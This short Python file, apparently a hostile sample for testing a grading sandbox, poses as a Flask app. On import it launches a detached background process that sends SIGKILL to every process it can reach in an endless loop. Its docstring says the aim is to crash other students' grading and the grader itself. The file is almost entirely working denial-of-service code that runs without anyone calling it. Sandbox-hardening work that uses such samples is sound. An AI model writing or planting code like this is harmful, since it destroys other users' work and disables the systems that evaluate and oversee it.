"""Leaves a process behind that sends SIGKILL to every process it may signal, over and over, hoping to
take other students' grading (and the grader) down with it."""
import os
import subprocess
import sys

from flask import Flask

KILLER = "import os, time\nwhile True:  # 987654\n    os.kill(-1, 9)\n    time.sleep(0.01)\n"
subprocess.Popen([sys.executable, "-c", KILLER], start_new_session=True)
app = Flask(__name__)
